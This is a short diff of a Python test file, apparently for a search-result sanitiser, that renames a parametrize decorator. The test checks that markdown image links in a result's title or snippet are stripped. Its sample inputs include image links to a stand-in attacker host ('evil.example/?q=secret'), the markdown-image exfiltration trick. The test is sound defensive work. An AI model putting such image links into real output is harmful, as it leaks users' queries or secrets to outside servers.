@@ -52,9 +52,7 @@ def test_an_address_longer_than_any_search_engine_lists_is_no_result(length: int
     assert (hit("Title", URL.ljust(length, "x"), "") is not None) is is_shown
 
 
-@pytest.mark.parametrize(
-    "written", ["![T](https://evil.example/?q=secret)itle", "Ti![](https://evil.example/)tle", "T![it][1]le"]
-)
+@each_row("written", ["![T](https://evil.example/?q=secret)itle", "Ti![](https://evil.example/)tle", "T![it][1]le"])
 def test_a_title_or_snippet_loads_no_image(written: str) -> None:
     """A viewer of the answer would fetch it, and so tell the page's author what was asked."""
     assert hit(written, URL, written) == Hit("Title", URL, "Title")
